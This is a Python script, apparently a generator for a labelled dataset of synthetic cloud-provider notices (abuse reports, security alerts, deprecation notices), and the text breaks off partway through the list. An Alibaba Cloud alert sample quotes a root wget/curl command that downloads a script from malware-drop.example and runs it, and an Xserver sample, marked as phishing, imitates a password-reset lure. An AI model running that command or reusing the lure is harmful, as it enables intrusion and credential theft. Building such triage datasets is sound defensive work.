#!/usr/bin/env python3
"""Build set-g3.mbox: 60 synthetic cloud/hosting-provider notices (no AWS).

Each notice is modelled on a real notice that someone quoted in public (the
source URL is kept in SOURCES / README.md).  Facts and shape are kept, the
wording is new, every identifier is replaced, and all dates are shifted so the
Date header falls in October 2027 while the original intervals are preserved.

Only the Python 3 standard library is used.  The output is deterministic.
Run:  python3 set_g3.py      (writes set-g3.mbox next to this file, re-reads
it, checks it, prints counts; exits 1 on any problem)
"""

import datetime as _dt
import email
import email.policy
import mailbox
import os
import re
import sys
from email.message import EmailMessage
from email.utils import parseaddr, parsedate_to_datetime

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "set-g3.mbox")

LABELS = ("abuse", "security-incident", "action-required", "security-advisory",
          "maintenance", "pricing", "billing", "informational")

MONTHS = ["January", "February", "March", "April", "May", "June", "July",
          "August", "September", "October", "November", "December"]
WDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday",
         "Sunday"]
JA_WD = ["月", "火", "水", "木", "金", "土", "日"]
FR_MONTHS = ["janvier", "février", "mars", "avril", "mai", "juin", "juillet",
             "août", "septembre", "octobre", "novembre", "décembre"]


def _ordinal(n):
    if 11 <= n % 100 <= 13:
        return "%dth" % n
    return "%d%s" % (n, {1: "st", 2: "nd", 3: "rd"}.get(n % 10, "th"))


def fmt_date(d, f):
    """Deterministic, locale-independent date formatting."""
    m, wd = d.month, d.weekday()
    table = {
        "iso": "%04d-%02d-%02d" % (d.year, m, d.day),
        "long": "%s %d, %d" % (MONTHS[m - 1], d.day, d.year),
        "ordlong": "%s %s, %d" % (MONTHS[m - 1], _ordinal(d.day), d.year),
        "ordmd": "%s %s" % (MONTHS[m - 1], _ordinal(d.day)),
        "dmy": "%d %s %d" % (d.day, MONTHS[m - 1], d.year),
        "dmys": "%02d %s, %d" % (d.day, MONTHS[m - 1][:3], d.year),
        "mdy": "%d/%d/%d" % (m, d.day, d.year),
        "md": "%02d/%02d" % (m, d.day),
        "ymd": "%04d/%02d/%02d" % (d.year, m, d.day),
        "ja": "%d年%d月%d日" % (d.year, m, d.day),
        "jamd": "%d月%d日" % (m, d.day),
        "jawd": JA_WD[wd],
        "wd": WDAYS[wd],
        "wds": WDAYS[wd] + "s",
        "wd3": WDAYS[wd][:3],
        "monthday": "%s %d" % (MONTHS[m - 1], d.day),
        "month": MONTHS[m - 1],
        "monthyear": "%s %d" % (MONTHS[m - 1], d.year),
        "year": "%d" % d.year,
        "ctd": "%s %s %02d" % (WDAYS[wd][:3], MONTHS[m - 1][:3], d.day),
        "fr": "%d %s %d" % (d.day, FR_MONTHS[m - 1], d.year),
    }
    return table[f]


def parse_sent(s):
    """'2027-10-04 14:27:04 +0200' -> aware datetime."""
    dt = _dt.datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")
    return dt


_TOKEN = re.compile(r"\{([DR]):([0-9-]+):(\w+)\}")


def expand(text, delta, sent_date):
    """Replace {D:YYYY-MM-DD:fmt} (original date, shifted by delta) and
    {R:n:fmt} (n days after the Date header's calendar date)."""
    def rep(mo):
        kind, val, f = mo.groups()
        if kind == "D":
            d = _dt.date.fromisoformat(val) + delta
        else:
            d = sent_date + _dt.timedelta(days=int(val))
        return fmt_date(d, f)
    return _TOKEN.sub(rep, text)


def html_from_text(text):
    """Very small text->HTML converter used for notices whose originals were
    HTML mails.  Blank-line separated paragraphs become <p>, lines starting
    with '- ' or '* ' become list items."""
    import html as _html
    out = ["<!DOCTYPE html>", "<html><head><meta charset=\"utf-8\"></head>",
           "<body style=\"font-family:Arial,Helvetica,sans-serif;"
           "font-size:14px;line-height:1.5;color:#202124\">"]
    for block in text.strip("\n").split("\n\n"):
        lines = block.split("\n")
        if all(l.startswith(("- ", "* ")) for l in lines):
            out.append("<ul>")
            for l in lines:
                out.append("<li>%s</li>" % _html.escape(l[2:]))
            out.append("</ul>")
        else:
            out.append("<p>%s</p>" % "<br>\n".join(_html.escape(l)
                                                 for l in lines))
    out.append("</body></html>")
    return "\n".join(out) + "\n"


# --------------------------------------------------------------------------
# The notices.  Fields:
#   label, phish, provider, source, orig (original send date),
#   sent (new Date header), deadline: None | ("shift", orig-date) | ("rel", n)
#   frm, to, subject, text, html (True -> multipart/alternative)
# --------------------------------------------------------------------------
MSGS = []


def add(**kw):
    kw.setdefault("phish", False)
    kw.setdefault("html", False)
    kw.setdefault("extra", [])
    MSGS.append(kw)

# ============================ critical: abuse ==============================

add(label="abuse", provider="Hetzner",
    source="https://github.com/AlphaReign/scraper/issues/27",
    orig="2018-06-24", sent="2027-10-04 14:27:04 +0200",
    deadline=("shift", "2018-06-25"),
    frm="Hetzner Online GmbH - Abuse Team <abuse@hetzner.com>",
    to="Lukas Brenner <l.brenner@quillfeather.example>",
    subject="Abuse Message [AbuseID:5E27B1:4C]: NetscanOutLevel: Portscan detected from 203.0.113.57",
    text="""Dear Mr Lukas Brenner,

Our monitoring shows attack traffic that came from your server.
Please find the cause, stop it, and make sure it cannot happen again.

We also ask you for a short reply that explains how this was possible and
what you are going to do about it.
If the steps listed below are not completed, your server may be locked at
any point after {D:2018-06-25:iso} 14:27:04 +0200.

Next steps:
- Remove the cause of the traffic
- Confirm that it has stopped with this check:
  https://abuse.hetzner.com/retries/?token=9b2e4c71d0a8f3e65c17ab40d2f98e31
- When the check passes, hand in your statement here:
  https://abuse.hetzner.com/statements/?token=9b2e4c71d0a8f3e65c17ab40d2f98e31

Please note:
Do not change the abuse ID [AbuseID:5E27B1:4C] in the subject line when you
write to us. Plain email replies are only processed once a server has been
locked. For any other questions, please write to support@hetzner.com.

##########################################################################
#              Portscan detected from host  203.0.113.57                 #
##########################################################################

time                      protocol src_ip        src_port      dest_ip        dest_port
------------------------------------------------------------------------------------
{D:2018-06-24:ctd} 00:24:35 {D:2018-06-24:year} UDP   203.0.113.57   6881  =>  192.0.2.1       59336
{D:2018-06-24:ctd} 00:24:17 {D:2018-06-24:year} UDP   203.0.113.57   6881  =>  198.51.100.179  60693
{D:2018-06-24:ctd} 00:26:15 {D:2018-06-24:year} UDP   203.0.113.57   6881  =>  198.51.100.179  60693
{D:2018-06-24:ctd} 00:22:54 {D:2018-06-24:year} UDP   203.0.113.57   6881  =>  192.0.2.89      49453

Kind regards

Abuse Team

Hetzner Online GmbH
Industriestr. 25
91710 Gunzenhausen / Germany
Tel: +49 9831 505-0
abuse@hetzner.com
www.hetzner.com
""")

add(label="abuse", provider="Hetzner",
    source="https://github.com/PussTheCat-org/PussTheCat.org/issues/5",
    orig="2022-03-30", sent="2027-10-06 09:12:44 +0200",
    deadline=("rel", 1),
    frm="Hetzner Online GmbH - Abuse Team <abuse@hetzner.com>",
    to="Ines Kowalczyk <ines@harborview.example>",
    subject="Abuse Message [AbuseID:A41C07:19]: AbuseNormal: Takedown notice regarding mirror.harborview.example",
    text="""Dear Ms Ines Kowalczyk,

We have received a complaint about spam and/or abuse coming from your
server. The complaint is reproduced below.

Please look into it, resolve it, and take steps so that it does not
happen again.

We also need a short statement from you within 24 hours, sent both to us
and to the complainant. It should say how the situation came about and
what you have changed to prevent a repeat.

How to proceed:
- Resolve the matter
- Hand in your statement: https://abuse.hetzner.com/statements/?token=4fd10a7be2c93e856f0d41a7c2b9e017
- Answer the complainant by email

A member of our staff will read your statement and decide on any further
steps. If the deadline passes without a statement, the IP address may be
locked.

Please keep the abuse ID [AbuseID:A41C07:19] unchanged in the subject line
of every reply.

----- Complaint -----
Subject: Takedown request - copyright infringement and misuse on
  https://mirror.harborview.example/u/[REDACTED]/replies
Requested host: mirror.harborview.example
IP addresses:   198.51.100.166, 2001:db8:241:16d9::2
Hostname:       harborview.example
Sent to:        abuse@hetzner.com

Dear Sir or Madam,

We write on behalf of [REDACTED] and have been instructed to send you this
cease-and-desist notice about copyrighted material published at the
address above without permission. Our client believes the material was
knowingly reused and presented as the site operator's own work.

We ask that you deal with this notice in line with the procedures of the
DMCA. Our client reserves all rights, including the right to claim
damages.
----- End of complaint -----

Kind regards

Abuse department

Hetzner Online GmbH
Industriestr. 25
91710 Gunzenhausen / Germany
Tel: +49 9831 505-0
abuse@hetzner.com
www.hetzner.com
""")

add(label="abuse", provider="Google Cloud",
    source="https://github.com/mack-a/v2ray-agent/issues/94",
    orig="2021-02-04", sent="2027-10-07 03:18:09 +0000",
    deadline=None,
    frm="Google Cloud Compliance <google-cloud-compliance@google.com>",
    to="lin.haoran@lanshan-net.example",
    subject="[需要您处理] Google Cloud 项目 relay-node-73215 因加密货币挖矿已被暂停",
    html=True,
    text="""您好：

我们的系统发现，您的 Google Cloud 项目“中继节点”（ID：relay-node-73215）正在进行加密货币挖矿。因此，该项目中出现这种行为的全部资源均已被暂停运行。

这类活动违反了 Google Cloud Platform 服务条款，或您所使用的 Google API 的服务条款。

请核实这项活动是否由您本人发起。加密货币挖矿经常与冒用的账号和盗用的付款方式相关联，因此在我们的平台上挖矿需要事先通过验证。

如果您怀疑项目已被他人入侵，请立即检查并加固项目中的所有实例。如果您认为此次暂停有误，可以在 Google Cloud 控制台中提交申诉。

此致
Google Cloud 团队

© 2027 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
您收到此邮件是因为我们需要告知您与 Google Cloud 账号相关的重要变更。
""")

add(label="abuse", provider="DigitalOcean",
    source="https://github.com/pry0cc/axiom/issues/243",
    orig="2021-02-24", sent="2027-10-08 16:40:22 +0000",
    deadline=None,
    frm="DigitalOcean Support <support@digitalocean.com>",
    to="Theo Marchetti <theo.marchetti@brightpath.example>",
    subject="Re: [#7310455] Account locked - request for review",
    text="""Hello,

Thank you for contacting DigitalOcean Support.

We have reviewed your account. It matches patterns that we associate with
fraudulent activity, which is not allowed under our Terms of Service.
Following that review, we have decided that access to the account will not
be restored. To keep our security systems effective, we cannot tell you
which signals led to this decision.

We appreciate your understanding and wish you all the best.

Regards,
Priya
DigitalOcean Support

Ticket #7310455 - reply above this line to add a comment.
""")

add(label="abuse", provider="Xserver", phish=True,
    source="https://xserver.ne.jp/information_detail.php?view_id=8122",
    orig="2022-01-30", sent="2027-10-09 11:05:31 +0900",
    deadline=None,
    frm="Xserverアカウント <support@xserver-account.example>",
    to="info@tanuki-works.example",
    subject="【Xserverアカウント】■重要■ お客様ご契約のアカウントにおける大量メール送信について",
    text="""━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
【Xserverアカウント】■重要■ お客様ご契約のアカウントにおける大量メール送信について
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

いつもご利用いただき、誠にありがとうございます。
エックスサーバー サポート窓口でございます。

急なご連絡となり申し訳ございません。
お客様のサーバーアカウントに登録されたメールアカウントにおいて、
身に覚えのない SMTP 接続が確認されました。
その接続を通じて、迷惑メールと判断されるメッセージが
多数送信されている状況です。

このため、該当するメールアカウントのパスワードは
当サポートにて強制的に変更いたしました。
変更前のパスワードは現在ご利用いただけません。

引き続きメールをご利用いただくには、以下のページへログインし、
新しいパスワードを設定してください。

  https://xserver-account.example/login/verify?ref=mail-8122

※本メールは送信専用アドレスから配信しております。

━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
エックスサーバー株式会社
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
""")

add(label="abuse", provider="Tencent Cloud",
    source="https://github.com/dropod/issues/issues/17373",
    orig="2020-10-13", sent="2027-10-11 19:49:03 +0800",
    deadline=None,
    frm="腾讯云 <cloud_noreply@tencent.com>",
    to="ops@qingshan-studio.example",
    subject="您使用的腾讯云服务存在违规信息，请尽快处理",
    html=True,
    text="""尊敬的腾讯云用户（账号 ID：100028734651）：

您好！平台检测到，您账号下正在使用的腾讯云服务涉及违规信息。

为维护网络环境安全，请您立即自查并处理相关内容。若未能及时完成整改，平台将依据《腾讯云服务协议》及相关规定，对涉事资源采取限制访问等处置措施。

如对本通知有疑问，请登录腾讯云控制台提交工单。

腾讯云团队
此邮件由系统自动发送，请勿直接回复。
""")

add(label="abuse", provider="CLARA (クララオンライン)",
    source="https://spt.clara.jp/ufaqs/14996/",
    orig="2022-12-07", sent="2027-10-12 10:20:00 +0900",
    deadline=None,
    frm="クララオンライン サポート <support@clara.jp>",
    to="admin@sakuragaoka-design.example",
    subject="【通報】ご契約サーバからの迷惑メール送信に関するご連絡 (mx1.sakuragaoka-design.example)",
    text="""株式会社さくらがおかデザイン
ご担当者様

平素より弊社サービスをご利用いただき、誠にありがとうございます。
クララオンライン サポートでございます。

第三者の方より、お客様のご契約サーバから迷惑メールを受け取ったとの
通報が弊社に寄せられました。通報の内容を以下に転記いたします。
メールサーバを管理されているお客様にて、内容のご確認とご対応を
お願いいたします。

■ 対象サーバ
  ホスト名 : mx1.sakuragaoka-design.example
  IPアドレス: 203.0.113.84

■ 通報内容(抜粋)
  Received: from mx1.sakuragaoka-design.example (203.0.113.84)
  From: "Support" <info@sakuragaoka-design.example>
  Subject: 【重要】アカウント確認のお願い
  Date: {D:2022-12-06:ymd} 02:14:53 +0900

■ ご確認いただきたい事項
 1. 通報内容の確認
    通報に含まれるメールヘッダーから、どのメールアカウントが
    使われたかを特定してください。また、そのメールがお客様の意図
    して送ったものかどうかをご確認ください。
 2. 大量送信しているアカウントの確認
    サーバ上で、お客様の意図しないメールを多数送っている
    アカウントがないかご確認ください。

■ ご対応のお願い
  心当たりのない送信であれば、第三者によるメールアカウントの
  不正利用が考えられます。該当アカウントのパスワードを推測されにくい
  ものへ変更し、利用端末のウイルスチェックも併せて実施してください。

ご対応が完了しましたら、本メールへの返信にて対応内容をお知らせください。

--
クララオンライン サポートセンター
""")

add(label="abuse", provider="Microsoft Azure",
    source="https://github.com/janhebnes/startlist.club/issues/245",
    orig="2024-03-13", sent="2027-10-13 14:58:11 +0000",
    deadline=("rel", 2),
    frm="Microsoft Azure Safeguards Team <azure-noreply@microsoft.com>",
    to="Mads Lindqvist <mads@rostercloud.example>",
    subject="Action Required: Microsoft Azure Deployment Acceptable Use Policy Violation [#SIR27819354]",
    html=True,
    text="""Dear Azure customer,

Microsoft has found that a resource in one of your Azure subscriptions was
used in a way that goes against the Microsoft Online Services Acceptable
Use Policy.

Subscription ID: 3f6b9c20-7d41-4e8a-b5c2-91e07a4d6f13
Resource: rostercloud-web (App Service)

Incident details

- Date/Time of Activity: {D:2024-03-11:mdy} 11:29:58 PM (UTC)
- Description: Outside parties reported phishing served by your resource
- Evidence Gathered: Our analysis confirmed the phishing
- Reported Source: https://rostercloud.example/MSF/Language/Set?languageIsoCode=en&returnUrl=https%3A%2F%2Flure-redirect.example%3F0788

Required action

Remove the offending content, or close the redirect that is being abused,
within 48 hours of this notice and reply to this message with the steps
you took. If the problem is still present after that time, Microsoft may
disable the resource or suspend the subscription.

Thank you,
Microsoft Azure Safeguards Team

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

add(label="abuse", provider="OVHcloud",
    source="https://docs.ovh.com/ie/en/microsoft-collaborative-solutions/blocked-for-spam/",
    orig="2020-04-20", sent="2027-10-14 08:31:57 +0200",
    deadline=None,
    frm="OVHcloud <noreply@ovh.com>",
    to="contact@orchardline.example",
    subject="[Ticket 8841275316] Account locked for spam: contact@orchardline.example",
    text="""Dear Customer,

Our anti-spam system has classified messages sent from the email address
contact@orchardline.example as spam. To protect our platform and the
reputation of its IP addresses, we have blocked outgoing mail for this
address. Incoming mail is not affected.

Details
  Address:  contact@orchardline.example
  Service:  Email Pro - orchardline.example
  Ticket:   8841275316

What you need to do
 1. Ask the people who use this address whether they recently sent a
    mass mailing.
 2. If nobody did, assume the account has been compromised: scan the
    computers and phones that connect to it and change its password.
 3. In the OVHcloud Control Panel, go to "My support tickets", open the
    ticket "Account locked for spam" and reply with the measures you
    have taken. Sending will be re-enabled once our team has checked your
    answer.

Kind regards,
The OVHcloud Support team
""")

add(label="abuse", provider="Linode (Akamai)",
    source="https://linode.com/community/questions/19661/i-received-an-abuse-ticket-for-phishing-spam-how-can-i-resolve-it",
    orig="2020-03-02", sent="2027-10-15 17:02:40 +0000",
    deadline=("rel", 1),
    frm="Linode Support <support@linode.com>",
    to="Erin Castellanos <erin@kestrel-analytics.example>",
    subject="Linode Ticket [22947361] - Phishing Spam from kestrel-app-01",
    text="""Hello,

We have received, and verified, a report that phishing email was sent
from your Linode "kestrel-app-01" (198.51.100.24). The report is included
below.

Phishing puts anyone who receives it at immediate risk, so we have very
little tolerance for it. If the problem has not been dealt with within 24
hours of this ticket being opened, we will fully restrict network access
to this Linode.

Please investigate, remove whatever is sending these messages, and update
this ticket with what you found and what you changed. In most cases this
kind of activity is the result of a compromised system, and our guide on
recovering from a compromise may be useful.

If restrictions are applied, you will still be able to reach the Linode
through the Lish console in order to fix it.

---------- Report ----------
Reported by:  abuse-desk@mailguard.example
Source IP:    198.51.100.24
Seen (UTC):   {D:2020-03-02:iso} 09:41:17
Subject line: "Your mailbox is suspended - verify your account now"
Landing page: hxxps://kestrel-analytics.example/wp-content/uploads/sec/login.php
----------------------------

Regards,
Linode Support Team
""")

# ======================= critical: security-incident =======================

add(label="security-incident", provider="Google Cloud",
    source="https://github.com/TreeMama/iSeaTree-React-Prototype/issues/571",
    orig="2025-11-19", sent="2027-10-16 09:44:12 +0000",
    deadline=None,
    frm="Google Cloud <CloudPlatform-noreply@google.com>",
    to="maps-team@treewatch.example",
    subject="[Action Required] Publicly accessible Google API key for Google Cloud project Treewatch (id: treewatch-2291)",
    html=True,
    text="""Dear customer,

We have found a publicly reachable Google API key that belongs to the
following Google Cloud project:

Project Treewatch (id: treewatch-2291), API key AIzaSyD4EXAMPLEkeyQ7vN2rT8xW3pL5mK9sJ0c

The key was published at this URL:
https://github.com/mapsketch-demo/mapsketch-demo.github.io/blob/3e9a17c0b24d5f8e61a7c0d9b3f2e4a1c5d6b7e8/maps-watershed/js/index.js

Anyone who finds the key can use it to call the APIs enabled for your
project, and the usage will be charged to your billing account.

We recommend that you:
- Create a new key, update your applications to use it, and then delete the exposed key.
- Add API restrictions and application restrictions so the key only works where you expect.
- Check your project's API usage and billing for calls you do not recognize.

Sincerely,
The Google Cloud Team

© 2027 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
""")

add(label="security-incident", provider="GitHub",
    source="https://github.com/MDAnalysis/mdanalysis/issues/1337",
    orig="2017-05-08", sent="2027-10-18 21:10:37 +0000",
    deadline=None,
    frm="GitHub <noreply@github.com>",
    to="Ravi Sundaram <ravi.sundaram@lumen-data.example>",
    subject="[GitHub] One of your OAuth tokens was disclosed by a third party",
    text="""A GitHub.com OAuth token that belongs to you has been disclosed by a
third party. GitHub will revoke the token automatically in the near
future. Below you will find what happened and how to revoke it right away.

What happened?

You may already have heard from Travis CI about a security incident in
which GitHub.com OAuth tokens were exposed. Here is some more detail.

An independent researcher found that Travis CI, a continuous integration
service run by a third party, was accidentally printing GitHub OAuth
tokens for its users in build logs. Travis CI has fixed the problem and
has removed the exposed tokens from all existing logs. Even so, we ask you
to take a few more steps to keep your account safe.

Which token is affected?

  "CI docs deploy (7a3e91c2)"

What should you do?

1. Revoke the token now at https://github.com/settings/tokens and create
   a replacement if you still need one.
2. Look through your security log for activity you do not recognize:
   https://github.com/settings/security
3. Check your repositories for unexpected commits, webhooks or deploy keys.

If you have questions, please contact GitHub Support.

Thanks,
The GitHub Team
""")

add(label="security-incident", provider="GitHub",
    source="https://github.com/LoeiFy/Mirror/issues/37",
    orig="2017-12-19", sent="2027-10-19 06:03:15 +0000",
    deadline=None,
    frm="GitHub <noreply@github.com>",
    to="Chen Yutong <yutong.chen@paperlantern.example>",
    subject="[GitHub] An OAuth access token of yours was revoked",
    text="""Hi @yutong-paperlantern,

We found a valid OAuth access token of yours in a commit pushed to a
public repository on GitHub. Anyone holding a valid token can act on
GitHub as you, which could mean changes to your data, your contact
details or your billing information.

To be safe, we have revoked that OAuth token. You will need to create a
new token before you can keep using OAuth to authenticate to GitHub.

To confirm that your account has not been misused, we suggest that you:

- Go through your security history: https://github.com/settings/security
- Review the OAuth applications and personal access tokens that can
  reach your account: https://github.com/settings/applications
- Turn on two-factor authentication if you have not done so already.

Thanks,
The GitHub Team
""")

add(label="security-incident", provider="GitHub",
    source="https://github.com/ncipollo/release-action/issues/285",
    orig="2022-12-08", sent="2027-10-20 15:27:50 +0000",
    deadline=None,
    frm="GitHub <noreply@github.com>",
    to="Okonkwo Adaeze <adaeze@fernhill-tracker.example>",
    subject="[GitHub] Suspicious use of a personal access token on your account",
    text="""Hi @adaeze-fernhill,

We saw activity indicating that a threat actor used a personal access
token (PAT) linked to your account to read metadata from private
repositories. The requests came from a GitHub Actions run of the workflow
"release" in fernhill-tracker/fernhill-tracker.

As a precaution we have:
- revoked every personal access token and OAuth token on your account, and
- reset your password.

What you need to do:
1. Set a new password at https://github.com/password_reset
2. Check your security log for anything unfamiliar:
   https://github.com/settings/security-log
3. Remove SSH keys, deploy keys and authorized applications you do not
   recognize, then create new tokens only where you still need them.

If you have questions, reply to this message to reach GitHub Support.

Thanks,
GitHub Support
""")

add(label="security-incident", provider="Xserver",
    source="https://site-hikkoshi.com/21599",
    orig="2023-06-12", sent="2027-10-21 13:26:08 +0900",
    deadline=None,
    frm="エックスサーバー <support@xserver.ne.jp>",
    to="web@minato-shoten.example",
    subject="【Xserver】■重要■ お客様のサーバーアカウントにおける不正なアクセスの検知および制限の実施について (xsvc4409827)",
    text="""━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
【Xserver】■重要■ お客様のサーバーアカウントにおける
不正なアクセスの検知および制限の実施について
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

XserverアカウントID : xsvc4409827
サーバーID         : minatoshoten

平素はエックスサーバーをご利用いただき、誠にありがとうございます。
エックスサーバー カスタマーサポートでございます。

お客様のサーバーアカウントにおいて、不正なアクセスによるものと
みられるファイルの設置およびプロセスの稼働を検知いたしました。
他のお客様や第三者への被害拡大を防ぐため、下記の制限を実施しております。

────────────────────────────
■検知内容
  ・不正なプログラムの稼働(/home/minatoshoten/minato-shoten.example/public_html/wp-includes/css/.cache.php)
  ・改ざんされたとみられるファイル 12 件
■実施した制限
  ・対象ドメインへのWebアクセス制限(403 Forbidden を返します)
────────────────────────────

■お客様にてご対応いただきたい内容
 1. 設置された不正ファイルの削除、および改ざんされたファイルの復旧
 2. WordPress 本体・テーマ・プラグインを最新版へ更新
 3. FTP、WordPress 管理画面、データベースの各パスワードの変更

ご対応完了後、サーバーパネルの「アクセス制限解除申請」より
制限の解除をお申し込みください。内容を確認のうえ、制限を解除いたします。

────────────────────────────
エックスサーバー株式会社
https://www.xserver.ne.jp/
────────────────────────────
""")

add(label="security-incident", provider="Google (Google アカウント / Workspace)",
    source="https://shimaijyuku.jimdofree.com/2022/08/10/google%E3%81%8B%E3%82%89%E3%81%AE%E3%82%BB%E3%82%AD%E3%83%A5%E3%83%AA%E3%83%86%E3%82%A3%E9%80%9A%E7%9F%A5",
    orig="2022-08-02", sent="2027-10-22 18:43:20 +0900",
    deadline=None,
    frm="Google <no-reply@accounts.google.com>",
    to="kei.tanabe@minato-mail.example",
    subject="tanabe.kei@tanuki-works.example の重大なセキュリティ通知",
    html=True,
    text="""このメールは、tanabe.kei@tanuki-works.example 宛てに送られたセキュリティ通知の写しです。kei.tanabe@minato-mail.example はこのアカウントの再設定用メールアドレスとして登録されています。このアカウントに心当たりがない場合は、登録を解除してください。

ログインをブロックしました

tanabe.kei@tanuki-works.example

何者かがあなたのパスワードを使用してアカウントへのログインを試みました。このログインは Google がブロックしましたが、念のためアクティビティを確認してください。

アクティビティを確認: https://accounts.google.com/AccountChooser?Email=tanabe.kei@tanuki-works.example&continue=https://myaccount.google.com/alert/nt/1666532600000

セキュリティ関連のアクティビティは次のページでも確認できます。
https://myaccount.google.com/notifications

このメールは、Google アカウントやサービスに関する重要な変更をお知らせするために送信しています。
© 2027 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
""")

add(label="security-incident", provider="Twilio SendGrid",
    source="https://github.com/blockframes/blockframes/issues/6423",
    orig="2021-07-29", sent="2027-10-23 00:14:55 +0000",
    deadline=None,
    frm="Twilio SendGrid Support <support@sendgrid.com>",
    to="Camille Roussel <camille@reeldock.example>",
    subject="[Request #8390127] Your SendGrid account is in Warning status - exposed API key",
    text="""Hi Camille,

Our compliance team found one of the API keys for your SendGrid account
published in a public GitHub repository:

  https://github.com/reeldock/reeldock-platform/blob/9c1d24e/config/mail.json

Keys exposed this way are regularly picked up and used to send spam, so
we now treat this key as compromised and have placed your account in
Warning status. If we see abusive sending, we may restrict the account
further without additional notice.

To bring the account back to normal status, please:
1. Delete the exposed API key and create a new one.
2. Reset the password of every teammate on the account.
3. Turn on two-factor authentication for every user.
4. Remove the key from your repository, including its history.

Reply to this request once you have finished these steps and we will
review the account.

Kind regards,
Twilio SendGrid Compliance
""")

add(label="security-incident", provider="Alibaba Cloud",
    source="https://github.com/whyour/qinglong/issues/2936",
    orig="2026-02-28", sent="2027-10-25 17:39:40 +0800",
    deadline=None,
    frm="阿里云云安全中心 <aliyun-notice@service.aliyun.com>",
    to="devops@yunhe-lab.example",
    subject="【阿里云】云安全中心安全告警：蠕虫病毒命令（紧急）",
    html=True,
    text="""尊敬的阿里云用户 yunhe-lab@example-1276**80272，您好！

您名下的资产出现了一条安全告警：蠕虫病毒命令。建议您尽快前往控制台处理，防止入侵者进一步操作。

告警名称：蠕虫病毒命令
级别：紧急
发生时间：{D:2026-02-28:iso} 17:37:04
资产 IP：203.0.113.47（公网） 192.0.2.15（私网）

告警说明：系统中发现一个可疑进程，可能与蠕虫病毒或入侵事件有关。
数据来源：进程启动时触发检测
判定依据：该命令与已知蠕虫病毒命令特征高度相似

用户名：root
命令行：(wget -q -O /tmp/run.sh https://malware-drop.example/2602/a7c1.sh || curl -s -o /tmp/run.sh https://malware-drop.example/2602/a7c1.sh) && chmod +x /tmp/run.sh && /tmp/run.sh && rm -f /tmp/run.sh
进程路径：/usr/bin/grep
进程 ID：3704412
父进程命令行：/bin/sh -c cat /ql/data/config/crontab.list | grep -E "..."
父进程路径：/usr/bin/dash

处理建议：请立即排查入侵来源，删除恶意定时任务并修改相关凭证。若确认为正常运维操作，可在控制台中将该告警标记为忽略。

立即处理：https://yundun.console.aliyun.com/?p=sas#/suspicious/index

阿里云云安全中心
""")

add(label="security-incident", provider="Microsoft 365",
    source="https://r.datuan.dev/r/microsoft365/comments/1ucf1zd/highseverity_alert_user_restricted_from_sending/",
    orig="2026-06-22", sent="2027-10-26 03:00:41 +0000",
    deadline=None,
    frm="Microsoft 365 Defender <Office365Alerts@microsoft.com>",
    to="it-admin@holloway-partners.example",
    subject="High-severity alert: User restricted from sending email",
    html=True,
    text="""A high-severity alert was raised in your Microsoft 365 organization.

Alert: User restricted from sending email
Severity: High
Time: {D:2026-06-22:mdy} 3:00:00 AM (UTC)
Activity: Potentially compromised user account
User: g.fenwick@holloway-partners.example

Details: In the last day, g.fenwick@holloway-partners.example sent mail to 4 internal and 396 external recipients, and tried to send to another 100, which would have gone over the external recipient limit. The user can no longer send email until an administrator removes the restriction.

View alert details: https://security.microsoft.com/alerts?tid=5b8e2f10-3c7d-4a96-b21e-0d6f4c9a8e77

Thank you,
The Microsoft 365 Team

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

# ============================= action-required =============================

add(label="action-required", provider="Google Cloud",
    source="https://github.com/proudcity/wp-proudcity/issues/2252",
    orig="2023-05-16", sent="2027-10-01 17:05:09 +0000",
    deadline=("shift", "2024-05-15"),
    frm="Google Cloud <CloudPlatform-noreply@google.com>",
    to="platform@cityhall-portal.example",
    subject="[Action Required] Move from Container Registry to Artifact Registry before {D:2024-05-15:long}",
    html=True,
    text="""Hello Google Cloud customer,

Container Registry is being phased out beginning {D:2024-05-15:long}. Please review the options below for moving your projects to Artifact Registry.

We are writing to tell you that, starting {D:2024-05-15:long}, Container Registry will be gradually replaced by Artifact Registry, which adds a number of new capabilities.

What do you need to know?

Starting {D:2024-05-15:long}, only some projects will still be able to host images in Container Registry. A project keeps this ability only if both of the following are true:
- The Container Registry API was turned on in the project before {D:2024-05-15:long}.
- Images have been pushed to Container Registry in that project.

In every other project, images for the gcr.io domain will be stored and managed in Artifact Registry once the change starts.

What do you need to do?

Please move the projects listed below to Artifact Registry before {D:2024-05-15:long}. You can let us redirect gcr.io traffic to Artifact Registry automatically, or copy your images yourself.

Your affected projects:
- cityhall-portal (cityhall-portal-4417)
- cityhall-staging (cityhall-staging-9025)

Thanks for choosing Google Cloud.
— The Google Cloud Team

© 2027 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
You have received this mandatory service announcement to update you about important changes to Google Cloud or your account.
""")

add(label="action-required", provider="Firebase",
    source="https://github.com/frankodoom/Firebase.Notification/issues/5",
    orig="2024-02-21", sent="2027-10-02 16:30:00 +0000",
    deadline=("shift", "2024-06-20"),
    frm="Firebase <firebase-noreply@google.com>",
    to="mobile@courier-alerts.example",
    subject="[Reminder] Legacy Firebase Cloud Messaging APIs will be discontinued on {D:2024-06-20:long}",
    html=True,
    text="""Hello Firebase developer,

This is a reminder that the legacy Firebase Cloud Messaging (FCM) APIs will stop working on {D:2024-06-20:long}.

What do you need to know?

On {D:2024-06-20:long} we are retiring several legacy FCM register and send APIs that overlap with newer ones. Reducing the number of APIs lets us give you a more consistent experience that meets Google's security standards and improves reliability and performance.

Because these APIs are being turned off, some SDKs and features that were already deprecated will stop working after {D:2024-06-20:long}. The services being discontinued and their replacements are:

- Legacy HTTP send API -> HTTP v1 API
- Legacy XMPP send API -> HTTP v1 API
- Legacy batch send API -> HTTP v1 API with HTTP/2 multiplexing
- Instance ID register APIs -> FCM registration tokens from the current client SDKs

What do you need to do?

